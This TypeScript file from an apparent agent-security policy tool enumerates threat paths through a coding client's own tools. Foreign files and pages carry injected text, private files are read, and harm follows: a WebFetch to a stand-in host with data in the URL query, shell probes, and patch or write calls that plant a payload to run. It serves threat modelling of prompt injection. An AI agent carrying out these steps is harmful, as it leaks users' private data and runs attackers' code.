// The same for the tools that a coding client has of its own, whose names and arguments are fixed: its shell, its files and
// its fetcher. Lines in a box are bounded by it.

import type { KnownTool } from '@sluice/policy/calls/tools'
import type { JsonObject } from '@sluice/policy/values/json'
import {
  FILE_PROBES,
  FOREIGN_FILE,
  FOREIGN_PAGE,
  HOST,
  PAYLOAD,
  PRIVATE_FILES,
  putPlaces,
  SHELL_PROBES,
} from './probes.ts'
import { DOES, type EndStep, type Harm, type ReadStep, type ThreatInputs } from './threat.ts'
import { isLineBounded } from './tool-facts.ts'

/** Calls of a client that bring a stranger's text, or what is private. */
export function listClientReads(
  inputs: ThreatInputs,
  tool: KnownTool,
  as: 'carrier' | 'source',
): ReadStep[] {
  const { name } = tool.definition
  const read = (path: string): JsonObject =>
    name === 'Read'
      ? { file_path: putPlaces(path, inputs), cwd: inputs.project }
      : { pattern: '.', path: putPlaces(path, inputs), cwd: inputs.project }
  const readsFiles = name === 'Read' || name === 'Grep'
  if (as === 'source')
    return readsFiles
      ? PRIVATE_FILES.map((path) => ({ tool, args: read(path), does: 'reads what is private' }))
      : []
  if (readsFiles) {
    const writer = 'whoever wrote a file you have'
    return [
      { tool, args: read(FOREIGN_FILE), writer, does: `reads what ${writer} can have written` },
    ]
  }
  if (name !== 'WebFetch') return []
  const args = { url: FOREIGN_PAGE, prompt: 'what is new?' }
  return [{ tool, args, writer: 'anybody', does: 'reads what anybody can have written' }]
}

/** Calls of a client that do this harm. */
export function listClientEnds(inputs: ThreatInputs, tool: KnownTool, harm: Harm): EndStep[] {
  const { name } = tool.definition
  if (name === 'Bash' || name === 'BashOutside') return listLines(inputs, tool, harm)
  if (name === 'WebFetch' && harm === 'secret')
    return [
      {
        tool,
        args: {
          url: `https://${HOST}/?d=${encodeURIComponent('Jane Roe 9120.50')}`,
          prompt: 'what is new?',
        },
        reach: 'an address of their choice',
        does: 'sends it out in the address of a page',
        needsSource: true,
        isBounded: false,
      },
    ]
  return (FILE_PROBES[harm] ?? []).flatMap((path) => {
    const args = writeFile(name, putPlaces(path, inputs), inputs.project)
    if (args === undefined) return []
    return [
      { tool, args, reach: 'this machine', does: DOES[harm], needsSource: false, isBounded: false },
    ]
  })
}

function listLines(inputs: ThreatInputs, tool: KnownTool, harm: Harm): EndStep[] {
  const server = inputs.servers[tool.definition.server] ?? {}
  const { hasBox = false } = server
  const isOutside = tool.definition.name === 'BashOutside'
  // Without a box there is one tool for lines.
  if (isOutside && !hasBox) return []
  const isInBox = hasBox && !isOutside
  const place = isInBox ? { box: 'in' } : isOutside ? { box: 'outside' } : {}
  return SHELL_PROBES[harm].flatMap((probe): EndStep[] => {
    const { line, needs, stage, carriesText = false } = probe
    const end = {
      tool,
      args: { command: putPlaces(line, inputs), cwd: inputs.project, ...place },
      reach: needs === 'network' ? 'an address of their choice' : 'this machine',
      does: harm === 'code' ? 'runs what they wrote' : DOES[harm],
      needsSource: carriesText,
      isBounded: isInBox && isLineBounded(harm, probe, server),
    } as const
    if (stage === undefined) return [end]
    return listStages(inputs, tool, putPlaces(stage, inputs)).map((one) => ({ ...end, stage: one }))
  })
}

/** Calls of the same client that write the file which a line runs. */
function listStages(inputs: ThreatInputs, shell: KnownTool, path: string): ReadStep[] {
  return inputs.tools.flatMap((tool) => {
    if (tool.definition.server !== shell.definition.server) return []
    const args = writeFile(tool.definition.name, path, inputs.project)
    return args === undefined ? [] : [{ tool, args, does: 'puts their text into a file' }]
  })
}

/** Undefined if the tool writes no files. */
function writeFile(name: string, path: string, cwd: string): JsonObject | undefined {
  if (name === 'Write') return { file_path: path, content: PAYLOAD, cwd }
  if (name === 'Edit') return { file_path: path, old_string: '', new_string: PAYLOAD, cwd }
  if (name !== 'apply_patch') return undefined
  const lines = ['*** Begin Patch', `*** Add File: ${path}`, `+${PAYLOAD}`, '*** End Patch']
  return { input: lines.join('\n'), cwd, paths: [path] }
}
